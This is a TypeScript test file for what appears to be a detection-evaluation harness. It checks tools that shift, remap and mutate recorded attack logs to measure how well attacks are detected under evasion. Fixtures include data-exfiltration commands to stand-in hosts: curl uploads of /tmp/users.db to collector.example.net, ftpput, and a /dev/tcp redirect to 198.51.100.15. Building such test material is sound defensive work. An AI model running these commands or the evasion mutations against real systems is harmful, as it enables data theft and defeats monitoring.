import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readAllAds } from '../src/ads/folder.js';
import { root } from './recorded.js';

/** The measuring tools are plain JavaScript outside src/: what they promise of records is held here. */
const load = (name: string) => import(join(root, 'quality', name));
const { mapTimes, mapAddresses, replaceWords, separate, shiftTimes, stretchTimes } = await load('logs.mjs');
const { connections, mapConnections, mapStarts, replaceCommand } = await load('records.mjs');
const { FORMS, transferOf } = await load('transfer-forms.mjs');
const { MUTATIONS } = await load('mutations.mjs');
const { compareCells } = await load('compare.mjs');
const { corpusOf } = await load('corpus.mjs');
const { attacksOf } = await load('evasion.mjs');

const NEW =
  '[1795256883.584244]\t    [NEW] ipv4     2 tcp      6 120 SYN_SENT src=10.96.0.2 dst=198.51.100.10 sport=55320 dport=80 [UNREPLIED] src=198.51.100.10 dst=198.51.100.1 sport=80 dport=55320 id=378473714';
const DESTROY =
  '[1795256885.884717]\t[DESTROY] ipv4     2 tcp      6 TIME_WAIT src=10.96.0.2 dst=198.51.100.10 sport=55320 dport=80 packets=211 bytes=8399721 src=198.51.100.10 dst=198.51.100.1 sport=80 dport=55320 packets=90 bytes=4898 [ASSURED] delta-time=2 [start=Sat Nov 21 10:28:03 2026] [stop=Sat Nov 21 10:28:05 2026] id=378473714';
const POLL =
  '# 1795256883.610\nipv4     2 tcp      6 299 ESTABLISHED src=10.96.0.2 dst=198.51.100.10 sport=55320 dport=80 packets=209 bytes=8399617 src=198.51.100.10 dst=198.51.100.1 sport=80 dport=55320 packets=89 bytes=4846 [ASSURED] mark=0 delta-time=0 use=1 id=378473714\n# 1795256884.646\n';
const logs = new Map([
  ['conntrack-events.txt', `${NEW}\n${DESTROY}\n`],
  ['conntrack-poll.txt', POLL],
]);

describe('time', () => {
  const later = (text: string) =>
    mapTimes(text, (seconds: number, fraction: number) => [seconds + 86_400, fraction]);

  test.each([
    ['2026-11-21T10:28:03.567642Z', '2026-11-22T10:28:03.567642Z'],
    ['"timeNano":1795256883519761514', '"timeNano":1795343283519761514'],
    ['"ts":1795256883.519,', '"ts":1795343283.519,'],
    ['[start=Mon Nov 30 10:28:03 2026]', '[start=Tue Dec  1 10:28:03 2026]'],
    ['[21/Nov/2026:10:28:03 +0000]', '[22/Nov/2026:10:28:03 +0000]'],
    [
      '<when><hour>3</hour><min>38</min><sec>00</sec><wday>2</wday><day>30</day><month>11</month><year>2026</year></when>',
      '<when><hour>3</hour><min>38</min><sec>00</sec><wday>3</wday><day>1</day><month>12</month><year>2026</year></when>',
    ],
  ])('%s moves by a day', (was, is) => expect(later(was)).toBe(is));

  test.each([
    'id=1795256883',
    '"monotonic_ns":"19063580172197"',
    '"orig_bytes":1234567890',
    '0001-01-01T00:00:00Z',
  ])('%s is no time of ours', (text) => expect(later(text)).toBe(text));

  test('stretching leaves what came before the start alone', () => {
    const stretched = stretchTimes(new Map([['x', '1795256880.000 1795256883.500']]), 1_795_256_883, 10);
    expect(stretched.get('x')).toBe('1795256880.000 1795256888.000');
  });
});

test('addresses and names change as whole words only', () => {
  const plusOne = (text: string) =>
    mapAddresses(text, ([a, b, c, d]: number[]) => (a === 10 ? [10, b! + 1, c, d] : null));
  expect(plusOne('src=10.96.0.2 v10.96.0.2 10.96.0.2.5 /dev/tcp/10.96.0.2/9')).toBe(
    'src=10.97.0.2 v10.96.0.2 10.96.0.2.5 /dev/tcp/10.97.0.2/9',
  );
  expect(replaceWords('app1 app1-x "app1" myapp1', new Map([['app1', 'b']]))).toBe('b app1-x "b" myapp1');
});

test('a connection in four keeps its bytes, its time and its tuple apart', () => {
  const cut = mapConnections(logs, () =>
    [0, 1, 2, 3].map((index) => ({ share: 0.25, received: 0.25, delay: index * 60 })),
  );
  const flows = connections(cut);
  expect(flows).toHaveLength(4);
  expect(new Set(flows.map(({ fromPort }: { fromPort: number }) => fromPort)).size).toBe(4);
  expect(flows.reduce((sum: number, { sent }: { sent: number }) => sum + sent, 0)).toBeCloseTo(8_399_721, -2);
  const times = flows.map(({ at }: { at: number }) => at - flows[0].at);
  expect(times.map(Math.round)).toEqual([0, 60, 120, 180]);
  // A poll sees each where it is: four snapshots more than there were, less the one that stays.
  expect(cut.get('conntrack-poll.txt').match(/^# /gm)).toHaveLength(5);
});

test('a change of port holds in both directions, for events and polls', () => {
  const moved = mapConnections(logs, () => [{ port: 8443 }]);
  for (const text of moved.values()) {
    expect(text).toContain('dport=8443');
    expect(text).toContain('sport=8443 dport=55320');
    expect(text).not.toMatch(/port=80\b/);
  }
});

test('copies of a story share neither address nor id', () => {
  const [one, two] = [1, 2].map((index) => separate(logs, index).get('conntrack-events.txt') as string);
  const values = (text: string) => new Set(text.match(/10\.\d+\.\d+\.\d+|\bid=\d+/g));
  expect([...values(one!)].filter((value) => values(two!).has(value))).toEqual([]);
});

test('a command is replaced where the engine and where the shell state it, and the program that is started with it', () => {
  const command = 'curl -sST /tmp/a "http://x/u"';
  const both = new Map([
    ['engine-events.ndjson', `${JSON.stringify({ Action: `exec_create: sh -c ${command}` })}\n`],
    ['process.ndjson', `${JSON.stringify({ record: 'exec', pid: 1, argv: ['curl', '-sST'] })}\n`],
  ]);
  const changed = mapStarts(replaceCommand(both, command, 'wget x'), () => [{ argv: ['wget', 'x'] }]);
  expect(JSON.parse(changed.get('engine-events.ndjson')).Action).toBe('exec_create: sh -c wget x');
  expect(JSON.parse(changed.get('process.ndjson'))).toMatchObject({
    name: 'wget',
    file: '/usr/bin/wget',
    argv: ['wget', 'x'],
  });
});

test.each([
  ['curl -sST /tmp/users.db http://collector.example.net/u', 'http'],
  [
    'for i in 1 2; do curl -sS -X PUT --data-binary @/tmp/users.db http://collector.example.net/f; sleep 3; done',
    'http',
  ],
  ['ftpput ftp.example.net upload/u2.db /tmp/users.db', 'ftp'],
  ['cat /tmp/users.db > /dev/tcp/198.51.100.15/9000', 'raw'],
])('%s is understood, and has equal forms', (command, kind) => {
  const transfer = transferOf(command);
  expect(transfer.kind).toBe(kind);
  const forms = FORMS.filter((form: { fits: (of: unknown) => boolean }) => form.fits(transfer));
  expect(forms.length).toBeGreaterThanOrEqual(4);
  for (const form of forms) expect(form.write(transfer).argv.length).toBeGreaterThan(1);
});

test('every mutation says why it is honest, and changes the attack it fits', () => {
  const attack = { logs, deeds: [], start: 1_795_256_883 };
  const fitting = MUTATIONS.filter((mutation: { fits: (of: unknown) => boolean }) => mutation.fits(attack));
  expect(fitting.length).toBeGreaterThanOrEqual(18);
  for (const mutation of fitting) {
    expect(mutation.because.length, mutation.name).toBeGreaterThan(10);
    const changed = [mutation.apply(attack)].flat();
    if (mutation.name !== 'inside TLS' && mutation.name !== 'connections alone')
      expect(
        changed.length > 1 || [...logs].some(([name, text]) => changed[0].get(name) !== text),
        mutation.name,
      ).toBe(true);
  }
  expect(new Set(MUTATIONS.map(({ name }: { name: string }) => name)).size).toBe(MUTATIONS.length);
});

test('each attack that is mutated has twenty mutations or more, and each changes what was seen of it', async () => {
  const { attacks } = attacksOf(corpusOf(await readAllAds(join(root, 'strategies'))));
  expect(attacks.length).toBeGreaterThan(100);
  for (const attack of attacks) {
    const fitting = MUTATIONS.filter((mutation: { fits: (of: unknown) => boolean }) => mutation.fits(attack));
    expect(fitting.length, attack.id).toBeGreaterThanOrEqual(20);
    // The largest take long, and are changed as the others are.
    if ([...attack.logs.values()].join('').length > 500_000) continue;
    for (const mutation of fitting) {
      const parts = [mutation.apply(attack)].flat();
      const isChanged = [...attack.logs].some(([name, text]) => parts[0].get(name) !== text);
      expect(parts.length > 1 || isChanged, `${attack.id}: ${mutation.name}`).toBe(true);
    }
  }
});

test('a copy of what a registry, a code host and a cluster tell shares no name with the other', () => {
  const told = new Map([
    [
      'told.ndjson',
      '{"host":"registry.example","url":"https://registry.example/v2/a/blobs/1","org":"shop","repo":"shop/app","username":"eve@example.com","as":"system:serviceaccount:shop:builder","Source":"/var/lib/docker/volumes/exchange/_data"}\n',
    ],
  ]);
  expect(JSON.parse(separate(told, 3).get('told.ndjson'))).toEqual({
    host: 'registry-v3.example',
    url: 'https://registry-v3.example/v2/a/blobs/1',
    org: 'shop-v3',
    repo: 'shop-v3/app',
    username: 'eve-v3@example.com',
    as: 'system:serviceaccount:shop:builder-v3',
    Source: '/var/lib/docker/volumes/exchange-v3/_data',
  });
});

test('a cell that was found and is not any more is worse; one that was missed before, or is new, is not', () => {
  const committed = {
    evasion: {
      misses: [{ attack: 'a', mutation: 'slow' }],
      attacks: { a: {} },
      mutations: { slow: {}, 'port 53': {} },
    },
  };
  const cell = (mutation: string, attack = 'a', group = 'traffic') => ({
    attack,
    mutation,
    group,
    found: false,
  });
  expect(compareCells(committed, [cell('slow')])).toEqual([]);
  expect(compareCells(committed, [cell('port 53')])).toEqual(['a is no longer found: port 53']);
  expect(compareCells(committed, [cell('slow'), cell('new')])).toEqual([]);
  expect(compareCells(committed, [cell('slow'), cell('port 53', 'new')])).toEqual([]);
  expect(compareCells(committed, [cell('unchanged', 'a', 'control')])).toEqual([
    'a is no longer found: unchanged',
  ]);
  expect(compareCells(committed, [cell('slow'), cell('new'), cell('port 53', 'new')])).toEqual([
    '2 of 3 mutated attacks are new: run npm run quality',
  ]);
});

test('moving by nothing changes no byte', () => {
  expect([...shiftTimes(logs, 0)]).toEqual([...logs]);
});
